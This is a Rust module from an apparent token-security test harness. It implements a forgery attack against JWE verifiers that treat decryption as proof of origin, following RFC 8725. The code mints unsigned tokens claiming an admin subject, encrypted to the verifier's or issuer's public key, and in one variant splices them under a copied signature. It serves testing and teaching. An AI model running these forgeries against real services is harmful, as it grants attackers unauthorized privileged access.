//! Encryption taken for authentication: claims that anyone encrypts to the
//! verifier's public key.
//!
//! The flawed assumption: what decrypts has come from the issuer. With a
//! shared key that holds, since `dir` and the key wraps authenticate whoever
//! has the key. With a public key it does not: RSA-OAEP and ECDH-ES say who can
//! read, and nothing of who wrote. RFC 8725 §2.3 and §3.3 demand that a nested
//! signature is there and is verified; encryption alone is no authentication.
//!
//! Here the verifier expects encryption and nothing else. One that expects a
//! signature and decrypts instead falls to `sign-encrypt-confusion`; one that
//! looks for a signature inside and is content to find none, to
//! `nested-plainjwt`.
//!
//! This is a property of the format and not a bug of a library. Contenders
//! whose JWE has a public key are measured for what they are made for, secrecy;
//! here they stand as verifiers that believe what they decrypt, so that the
//! matrix shows what such a token does not promise.

use serde_json::{Map, Value};
use tokenlab_harness::exchange::PublicKey;
use tokenlab_harness::{Bound, Key};

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::jwe::{self, Recipient};
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::{KeyManagement, Scheme};
use crate::weakness::Weakness;

pub(super) struct JwePublicKeyMint;

static PROFILE: AttackProfile = AttackProfile {
    id: "jwe-public-key-mint",
    title: "Encryption taken for authentication",
    assumption: "What decrypts with the verifier's key has come from the issuer.",
    class: AttackClass::Encryption,
    given: &[],
    isolated: false,
    breaks: &[Weakness::EncryptionAsAuthentication],
    references: &[
        (
            "RFC 8725 §2.3",
            "Libraries decrypt a JWE to get at a signed object and don't always verify the signature.",
        ),
        (
            "RFC 8725 §3.3",
            "Every cryptographic operation of a nested JWT is validated, inner and outer.",
        ),
        (
            "RFC 7519 §11.2",
            "Where both are needed, a token is signed and then encrypted.",
        ),
    ],
    lesson: include_str!("../../lessons/jwe-public-key-mint.md"),
};

impl Attack for JwePublicKeyMint {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        notes.step(
            "Rewrites the claims: the subject becomes admin.",
            mint::jwt_payload(view.wanted())?,
        );
        let why = match (view.scheme(), view.public_key()) {
            (Scheme::Jwe(alg, _), Some(public)) => return to_the_verifier(view, alg, public, notes),
            (Scheme::Jwt(_), _) => {
                return Err(CannotForge::Inexpressible {
                    why: "a signed token is what the verifier expects, and nothing in it is decrypted".into(),
                    tried: vec![ciphertext_for_payload(view, notes)?],
                });
            }
            (Scheme::Jwe(..), None) => {
                "issuer and verifier share a secret, and only those two can make a token that decrypts"
            }
            (Scheme::Paseto(..), _) => {
                "PASETO encrypts with a shared key only; a public key verifies and never decrypts"
            }
            (Scheme::Biscuit, _) => "a biscuit is not encrypted, and its public keys verify",
            (Scheme::Session(_), _) => "nothing in the id of a session is decrypted",
        };
        let token = to_the_issuers_rsa_key(view, notes)?;
        Err(CannotForge::Inexpressible {
            why: why.into(),
            tried: vec![Forgery::analogue(
                VARIANT,
                token,
                "a JWE under a public key that the issuer has for something else stands where the token belongs",
            )],
        })
    }
}

/// Claims, encrypted to the target's key.
fn to_the_verifier(
    view: &AttackerView<'_>,
    alg: KeyManagement,
    public: &PublicKey,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    notes.variant_step(
        VARIANT,
        "Encrypts them to the verifier's public key, which everybody has. Nothing is signed.",
        public.kind(),
    );
    let payload = mint::jwt_payload(view.wanted())?;
    let token = match (alg, public) {
        (KeyManagement::RsaOaep256 | KeyManagement::Rsa15, PublicKey::Rsa(_)) => {
            jwe::seal(&recipient(alg, public)?, &Map::new(), payload.as_bytes())?
        }
        _ => mint::seal(
            view.scheme(),
            &Key::Public(public.clone()),
            payload.as_bytes(),
            &Bound::default(),
        )?,
    };
    Ok(vec![Forgery::new(VARIANT, token)])
}

/// The same to the RSA key that the issuer publishes.
fn to_the_issuers_rsa_key(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<String, CannotForge> {
    use rsa::pkcs8::DecodePublicKey;
    let public = rsa::RsaPublicKey::from_public_key_pem(&view.issuer().rsa_pem)
        .map(PublicKey::Rsa)
        .map_err(|error| CannotForge::Failed(error.to_string()))?;
    notes.variant_step(
        VARIANT,
        "Encrypts them to the RSA key that the issuer publishes. Nothing is signed.",
        view.issuer().rsa_pem.as_str(),
    );
    let payload = mint::jwt_payload(view.wanted())?;
    Ok(jwe::seal(
        &recipient(KeyManagement::RsaOaep256, &public)?,
        &Map::new(),
        payload.as_bytes(),
    )?)
}

/// That token for the payload of a signed one, under her own token's signature.
fn ciphertext_for_payload(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let encrypted = to_the_issuers_rsa_key(view, notes)?;
    let header = Value::Object(view.sample_header()).to_string();
    let old = view.sample().rsplit('.').next().unwrap_or_default();
    let token = mint::jws_of(&header, encrypted.as_bytes(), &Signature::Copied(old.into()))?;
    notes.variant_step(
        VARIANT,
        "Puts the encrypted token where the claims stood, and leaves the signature as it was.",
        token.as_str(),
    );
    Ok(Forgery::analogue(
        VARIANT,
        token,
        "the encrypted claims stand where the claims stood, which nobody will decrypt",
    ))
}

fn recipient(alg: KeyManagement, public: &PublicKey) -> Result<Recipient, CannotForge> {
    match public {
        PublicKey::Rsa(key) if alg == KeyManagement::Rsa15 => Ok(Recipient::Rsa15(Box::new(key.clone()))),
        PublicKey::Rsa(key) => Ok(Recipient::RsaOaep256(Box::new(key.clone()))),
        other => Err(CannotForge::Failed(format!(
            "{} key has no RSA-OAEP",
            other.kind()
        ))),
    }
}

const VARIANT: &str = "claims-encrypted";
